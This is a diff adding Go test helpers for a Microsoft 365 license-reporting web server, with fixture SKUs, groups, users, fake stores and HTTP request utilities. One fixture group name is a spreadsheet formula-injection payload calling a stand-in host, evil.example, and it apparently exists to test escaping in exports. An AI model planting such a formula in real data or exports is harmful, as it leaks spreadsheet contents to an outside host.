@@ -1,0 +1,271 @@
+package server
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"log/slog"
+	"net/http"
+	"net/http/httptest"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/PuerkitoBio/goquery"
+
+	"github.com/tenantdesk/tenantdesk/internal/model"
+	"github.com/tenantdesk/tenantdesk/internal/store"
+)
+
+// testNow is the clock of every test server: the snapshot below is 5 minutes old.
+var testNow = time.Date(2026, 3, 4, 10, 5, 0, 0, time.UTC)
+
+// Real SKU ids from the reference material.
+const (
+	skuStudents = "314c4481-f395-4525-be8b-2ec4bb1e9d91"
+	skuFaculty  = "94763226-9b3c-4e75-a931-5c89701abe66"
+	skuE5       = "06ebc4ee-1bb5-47dd-8120-11324bc54e06"
+	skuDefender = "3dd6cf57-d688-4eed-ba52-9e40b5468c3e"
+	planTeams   = "57ff2da0-773e-42df-b2af-ffb7a2317929"
+	planExo     = "efb87545-963c-4e0d-99df-69c6916d9eb0"
+
+	groupA1      = "0a1a1a1a-0000-4000-8000-000000000001"
+	groupHostile = "0b0b0b0b-0000-4000-8000-000000000002"
+	groupStaff   = "0c0c0c0c-0000-4000-8000-000000000003"
+	hostileName  = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
+	fillerGroups = 120
+)
+
+func fillerID(i int) string { return fmt.Sprintf("f%07d-0000-4000-8000-%012d", i, i) }
+
+// testSnapshot is a small tenant: the A1 students/faculty group with users in CountViolation
+// (faculty) and Other (students), a group with a formula-injection name that is still queued,
+// a dynamic E5 group, and filler groups for paging.
+func testSnapshot() store.Snapshot {
+	snap := store.Snapshot{
+		TakenAt: testNow.Add(-5 * time.Minute),
+		SKUs: []model.SKU{
+			{ID: skuStudents, PartNumber: "STANDARDWOFFPACK_STUDENT", AppliesTo: "User", CapabilityStatus: "Enabled",
+				ConsumedUnits: 900, Prepaid: model.PrepaidUnits{Enabled: 1000}},
+			{ID: skuFaculty, PartNumber: "STANDARDWOFFPACK_FACULTY", AppliesTo: "User", CapabilityStatus: "Enabled",
+				ConsumedUnits: 500, Prepaid: model.PrepaidUnits{Enabled: 500}},
+			{ID: skuE5, PartNumber: "SPE_E5", AppliesTo: "User", CapabilityStatus: "Enabled",
+				ConsumedUnits: 95, Prepaid: model.PrepaidUnits{Enabled: 100},
+				ServicePlans: []model.ServicePlan{{ID: planTeams, Name: "TEAMS1", AppliesTo: "User"},
+					{ID: planExo, Name: "EXCHANGE_S_ENTERPRISE", AppliesTo: "User"}}},
+			{ID: skuDefender, PartNumber: "THREAT_INTELLIGENCE", AppliesTo: "User", CapabilityStatus: "Warning",
+				ConsumedUnits: 10, Prepaid: model.PrepaidUnits{Enabled: 0, Warning: 25}},
+		},
+		Groups: []model.Group{
+			{ID: groupA1, DisplayName: "A1 Students and Faculty", SecurityEnabled: true,
+				ProcessingState:  model.ProcessingComplete,
+				AssignedLicenses: []model.AssignedLicense{{SKUID: skuStudents}, {SKUID: skuFaculty}}},
+			{ID: groupHostile, DisplayName: hostileName, SecurityEnabled: true, ProcessingState: model.ProcessingQueued,
+				AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5, DisabledPlans: []string{planTeams}}}},
+			{ID: groupStaff, DisplayName: "Staff E5 (dynamic)", SecurityEnabled: true,
+				GroupTypes:       []string{"DynamicMembership"},
+				MembershipRule:   `user.department -eq "Staff"`,
+				ProcessingState:  model.ProcessingComplete,
+				AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5}}},
+		},
+		MemberCounts: map[string]model.MemberCounts{
+			groupA1: {All: 7, Users: 6}, groupHostile: {All: 2, Users: 2}, groupStaff: {All: 40, Users: 40},
+		},
+	}
+	for i := range fillerGroups {
+		id := fillerID(i)
+		snap.Groups = append(snap.Groups, model.Group{ID: id, DisplayName: fmt.Sprintf("Filler %03d", i),
+			SecurityEnabled: true, ProcessingState: model.ProcessingComplete,
+			AssignedLicenses: []model.AssignedLicense{{SKUID: skuStudents}}})
+		snap.MemberCounts[id] = model.MemberCounts{All: i, Users: i}
+	}
+	for i := range 3 { // in error in the A1 group: faculty out of units, students blocked by it
+		snap.Users = append(snap.Users, model.User{
+			ID: fmt.Sprintf("a0000000-0000-4000-8000-%012d", i), DisplayName: fmt.Sprintf("Student %d", i),
+			UserPrincipalName: fmt.Sprintf("s%d@school.example", i), AccountEnabled: true, UsageLocation: "DE",
+			LicenseStates: []model.LicenseState{
+				{SKUID: skuFaculty, AssignedByGroup: groupA1, State: model.StateError, Error: model.ErrorCountViolation},
+				{SKUID: skuStudents, AssignedByGroup: groupA1, State: model.StateError, Error: model.ErrorOther},
+			}})
+	}
+	snap.Users = append(snap.Users, model.User{ID: "a0000000-0000-4000-8000-000000000099", DisplayName: "Fine User",
+		AccountEnabled: true, AssignedLicenses: []model.AssignedLicense{{SKUID: skuE5}},
+		LicenseStates: []model.LicenseState{{SKUID: skuE5, AssignedByGroup: groupStaff, State: model.StateActive}}})
+	return snap
+}
+
+// testCatalog gives friendly names to some SKUs and plans; Defender is left out so its name
+// falls back to the part number.
+func testCatalog() []model.Product {
+	return []model.Product{
+		{SKUID: skuStudents, PartNumber: "STANDARDWOFFPACK_STUDENT", DisplayName: "Office 365 A1 for students"},
+		{SKUID: skuFaculty, PartNumber: "STANDARDWOFFPACK_FACULTY", DisplayName: "Office 365 A1 for faculty"},
+		{SKUID: skuE5, PartNumber: "SPE_E5", DisplayName: "Microsoft 365 E5", Plans: []model.PlanName{
+			{PlanID: planTeams, Name: "TEAMS1", FriendlyName: "Microsoft Teams"},
+			{PlanID: planExo, Name: "EXCHANGE_S_ENTERPRISE", FriendlyName: "Exchange Online (Plan 2)"},
+		}},
+	}
+}
+
+// openStore opens a real store in a temp dir; with snap it is saved as the current snapshot.
+func openStore(t testing.TB, snap *store.Snapshot) *store.Store {
+	t.Helper()
+	ctx := context.Background()
+	st, err := store.Open(ctx, filepath.Join(t.TempDir(), "tenantdesk.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { st.Close() })
+	st.Now = func() time.Time { return testNow }
+	if err := st.ReplaceProductCatalog(ctx, testCatalog(), "test", testNow); err != nil {
+		t.Fatal(err)
+	}
+	if snap != nil {
+		if err := st.SaveSnapshot(ctx, 0, *snap); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return st
+}
+
+// fakeSyncer records Start calls and reports a fixed progress.
+type fakeSyncer struct {
+	mu       sync.Mutex
+	starts   int
+	ctxs     []context.Context
+	running  bool
+	progress model.SyncProgress
+}
+
+func (f *fakeSyncer) Start(ctx context.Context) bool {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.starts++
+	f.ctxs = append(f.ctxs, ctx)
+	if f.running {
+		return false
+	}
+	f.running = true
+	return true
+}
+
+func (f *fakeSyncer) Progress() model.SyncProgress {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	return f.progress
+}
+
+// fakeStore is a ReportStore whose methods tests set one by one; unset methods answer
+// ErrNotFound like a store before its first sync.
+type fakeStore struct {
+	groupReport func(model.GroupReportQuery) (model.GroupReportPage, error)
+	eachRow     func(model.GroupReportQuery, func(model.GroupReportRow) error) error
+	groupDetail func(string) (model.GroupDetail, error)
+	overview    func() (model.Overview, error)
+	current     func() (store.SnapshotInfo, error)
+	latestRun   func() (model.SyncRun, error)
+	ping        func() error
+}
+
+var errFakeNotFound = fmt.Errorf("fake: %w", store.ErrNotFound)
+
+func (f *fakeStore) GroupReport(_ context.Context, q model.GroupReportQuery) (model.GroupReportPage, error) {
+	if f.groupReport == nil {
+		return model.GroupReportPage{}, errFakeNotFound
+	}
+	return f.groupReport(q)
+}
+
+func (f *fakeStore) EachGroupReportRow(_ context.Context, q model.GroupReportQuery, fn func(model.GroupReportRow) error) error {
+	if f.eachRow == nil {
+		return errFakeNotFound
+	}
+	return f.eachRow(q, fn)
+}
+
+func (f *fakeStore) GroupDetail(_ context.Context, id string) (model.GroupDetail, error) {
+	if f.groupDetail == nil {
+		return model.GroupDetail{}, errFakeNotFound
+	}
+	return f.groupDetail(id)
+}
+
+func (f *fakeStore) Overview(context.Context) (model.Overview, error) {
+	if f.overview == nil {
+		return model.Overview{}, errFakeNotFound
+	}
+	return f.overview()
+}
+
+func (f *fakeStore) CurrentSnapshot(context.Context) (store.SnapshotInfo, error) {
+	if f.current == nil {
+		return store.SnapshotInfo{}, errFakeNotFound
+	}
+	return f.current()
+}
+
+func (f *fakeStore) LatestSyncRun(context.Context) (model.SyncRun, error) {
+	if f.latestRun == nil {
+		return model.SyncRun{}, errFakeNotFound
+	}
+	return f.latestRun()
+}
+
+func (f *fakeStore) Ping(context.Context) error {
+	if f.ping == nil {
+		return nil
+	}
+	return f.ping()
+}
+
+// newServer builds a Server over st with a fixed clock and a log captured in logs.
+func newServer(t testing.TB, st ReportStore, sy Syncer, logs io.Writer) *Server {
+	t.Helper()
+	if sy == nil {
+		sy = &fakeSyncer{}
+	}
+	if logs == nil {
+		logs = io.Discard
+	}
+	s, err := New(Deps{Store: st, Syncer: sy, Logger: slogText(logs), Now: func() time.Time { return testNow }, Version: "test"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+// response is a finished request.
+type response struct {
+	*http.Response
+	body string
+}
+
+// do runs one request through the full handler.
+func do(t testing.TB, h http.Handler, method, target string, header http.Header) response {
+	t.Helper()
+	req := httptest.NewRequest(method, target, nil)
+	for k, v := range header {
+		req.Header[k] = v
+	}
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	res := rec.Result()
+	b, _ := io.ReadAll(res.Body)
+	return response{Response: res, body: string(b)}
+}
+
+// doc parses an HTML response.
+func (r response) doc(t testing.TB) *goquery.Document {
+	t.Helper()
+	d, err := goquery.NewDocumentFromReader(strings.NewReader(r.body))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return d
+}
+
+func slogText(w io.Writer) *slog.Logger {
+	return slog.New(slog.NewTextHandler(w, &slog.HandlerOptions{Level: slog.LevelDebug}))
+}
